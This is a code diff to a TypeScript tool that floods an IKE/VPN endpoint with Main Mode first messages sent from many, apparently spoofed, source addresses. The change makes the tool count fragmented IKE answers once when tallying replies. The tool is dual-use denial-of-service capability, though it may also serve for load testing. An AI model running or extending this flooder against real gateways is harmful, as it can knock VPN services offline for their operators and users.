@@ -54,8 +54,20 @@ export interface FloodResult {
   readonly seconds: number;
   /** sent / seconds, rounded. */
   readonly rate: number;
+  /** Messages answered: datagrams, an IKE fragmented answer counted once (by its first fragment). */
   readonly replies: number;
   readonly sources: number;
+}
+
+/** ISAKMP header length, the IKE fragment payload's type and its fragment number's offset in the datagram. */
+const HEADER = 28;
+const FRAGMENT_PAYLOAD = 132;
+const FRAGMENT_NUMBER_AT = HEADER + 6;
+
+/** Whether a datagram is a whole answer or the first fragment of one (later fragments are not counted). */
+export function startsAnAnswer(d: Uint8Array): boolean {
+  if (d.length <= FRAGMENT_NUMBER_AT || d[16] !== FRAGMENT_PAYLOAD) return true;
+  return d[FRAGMENT_NUMBER_AT] === 1;
 }
 
 export interface FirstMessageOptions {
@@ -92,7 +104,7 @@ export function mainModeFirstMessage(target: { address: string; port: number }, 
 }
 
 /** Sockets bound to each source and connected to the target (a connected send needs no address lookup). */
-async function openSources(o: FloodOptions, onReply: () => void): Promise<Socket[]> {
+async function openSources(o: FloodOptions, onReply: (d: Buffer) => void): Promise<Socket[]> {
   const source = o.source ?? spoofAddress;
   const socks: Socket[] = [];
   try {
@@ -126,7 +138,9 @@ export async function flood(o: FloodOptions): Promise<FloodResult> {
   const exchange = o.exchange ?? 'main';
   const template = Buffer.from(firstMessage(o.target, { exchange, ...(o.ike !== undefined ? { ike: o.ike } : {}), ...(o.id !== undefined ? { id: o.id } : {}), local: (o.source ?? spoofAddress)(0) }));
   let replies = 0;
-  const socks = await openSources(o, () => replies++);
+  const socks = await openSources(o, (d) => {
+    if (startsAnAnswer(d)) replies++;
+  });
   try {
     const cookies = Buffer.alloc(8 * BATCH);
     let sent = 0;
